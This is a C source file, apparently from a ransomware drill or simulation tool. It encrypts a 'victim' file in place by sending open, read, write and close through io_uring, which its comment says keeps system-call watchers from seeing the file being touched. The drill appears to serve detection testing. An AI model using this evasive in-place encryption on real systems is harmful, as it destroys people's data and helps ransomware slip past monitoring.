/* The pattern on io_uring: open, read, write and close go through the ring, so that no watcher of
 * system calls sees a file being touched. On its way: drill/attack.c → here → the files. Invariant:
 * one request is in flight at a time; the ring lives for one file. Raw calls: io_uring_setup(2),
 * io_uring_enter(2). */
#include "cli/drill/attack.h"

#include "base/banned.h"
#include "base/cleanup.h"
#include "base/err.h"
#include "sys/fd.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#define RING_ENTRIES 4U
#define RING_CHUNK   (64U << 10)

struct ring {
    int fd;
    char *queues; /* both index rings, one mapping */
    size_t queues_len;
    struct io_uring_sqe *requests;
    size_t requests_len;
    struct io_uring_params params;
};

static _Atomic uint32_t *ring_index(const struct ring *ring, uint32_t offset)
{
    return (_Atomic uint32_t *)(void *)(ring->queues + offset);
}

static void ring_done(struct ring *ring)
{
    if (ring->queues != NULL) {
        (void)munmap(ring->queues, ring->queues_len);
    }
    if (ring->requests != NULL) {
        (void)munmap(ring->requests, ring->requests_len);
    }
    closep(&ring->fd);
}

static int ring_map(struct ring *ring, size_t len, off_t what, void *ret_place)
{
    void *place =
        mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring->fd, what);

    if (place == MAP_FAILED) {
        return -errno;
    }
    *(void **)ret_place = place;
    return 0;
}

static int ring_init(struct ring *ring)
{
    size_t submit_len;
    int r;

    *ring = (struct ring){.fd = -1};
    ring->fd = (int)syscall(SYS_io_uring_setup, RING_ENTRIES, &ring->params);
    if (ring->fd < 0) {
        return -errno;
    }
    if ((ring->params.features & IORING_FEAT_SINGLE_MMAP) == 0) {
        return -ERR_OPNOTSUPP;
    }
    submit_len = ring->params.sq_off.array + ring->params.sq_entries * sizeof(uint32_t);
    ring->queues_len =
        ring->params.cq_off.cqes + ring->params.cq_entries * sizeof(struct io_uring_cqe);
    ring->queues_len = ring->queues_len > submit_len ? ring->queues_len : submit_len;
    ring->requests_len = ring->params.sq_entries * sizeof(struct io_uring_sqe);
    r = ring_map(ring, ring->queues_len, IORING_OFF_SQ_RING, &ring->queues);
    return r < 0 ? r : ring_map(ring, ring->requests_len, IORING_OFF_SQES, &ring->requests);
}

/* Hands in one request and waits; the result as the system call would have it, negative errno on
 * failure. */
static int ring_call(struct ring *ring, const struct io_uring_sqe *request)
{
    _Atomic uint32_t *tail = ring_index(ring, ring->params.sq_off.tail);
    _Atomic uint32_t *head = ring_index(ring, ring->params.cq_off.head);
    uint32_t slot = atomic_load(tail) & (ring->params.sq_entries - 1);
    const struct io_uring_cqe *answers = (const void *)(ring->queues + ring->params.cq_off.cqes);
    uint32_t *array = (void *)(ring->queues + ring->params.sq_off.array);
    uint32_t at;
    int result;

    ring->requests[slot] = *request;
    array[slot] = slot;
    (void)atomic_fetch_add(tail, 1);
    while (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        if (errno != EINTR) {
            return -errno;
        }
    }
    at = atomic_load(head);
    if (at == atomic_load(ring_index(ring, ring->params.cq_off.tail))) {
        return -ERR_IO;
    }
    result = answers[at & (ring->params.cq_entries - 1)].res;
    (void)atomic_fetch_add(head, 1);
    return result;
}

static int ring_open(struct ring *ring, const struct drill_victim *victim)
{
    struct open_how how = {.flags = O_RDWR | O_CLOEXEC,
                           .resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS};
    struct io_uring_sqe request = {
        .opcode = IORING_OP_OPENAT2,
        .fd = victim->dir_fd,
        .addr = (uintptr_t)victim->name,
        .len = sizeof(how),
        .off = (uintptr_t)&how,
    };

    return ring_call(ring, &request);
}

static int ring_transfer(struct ring *ring, uint8_t opcode, int fd, struct str bytes,
                         uint64_t offset)
{
    struct io_uring_sqe request = {.opcode = opcode,
                                   .fd = fd,
                                   .addr = (uintptr_t)bytes.ptr,
                                   .len = (uint32_t)bytes.len,
                                   .off = offset};

    return ring_call(ring, &request);
}

static int ring_encrypt(struct drill_attack *attack, const struct drill_victim *victim,
                        struct ring *ring, int fd)
{
    char chunk[RING_CHUNK];
    uint64_t offset = 0;
    int r = drill_cipher_start(attack, victim);

    while (r == 0) {
        int got = ring_transfer(ring, IORING_OP_READ, fd, str_of(chunk, sizeof(chunk)), offset);

        if (got <= 0) {
            return got;
        }
        r = drill_cipher_apply(attack, chunk, (size_t)got);
        if (r < 0) {
            return r;
        }
        drill_attack_begin(attack);
        if (ring_transfer(ring, IORING_OP_WRITE, fd, str_of(chunk, (size_t)got), offset) != got) {
            return -ERR_IO;
        }
        if (offset == 0) {
            drill_attack_touched(attack);
        }
        offset += (unsigned)got;
    }
    return r;
}

int drill_io_uring(struct drill_attack *attack, const struct drill_victim *victim)
{
    CLEANUP(ring_done) struct ring ring;
    struct io_uring_sqe shut = {.opcode = IORING_OP_CLOSE};
    int r = ring_init(&ring);
    int closed;
    int fd;

    if (r < 0) {
        return r;
    }
    fd = ring_open(&ring, victim);
    if (fd < 0) {
        return fd;
    }
    r = ring_encrypt(attack, victim, &ring, fd);
    shut.fd = fd;
    closed = ring_call(&ring, &shut);
    return r < 0 ? r : closed;
}
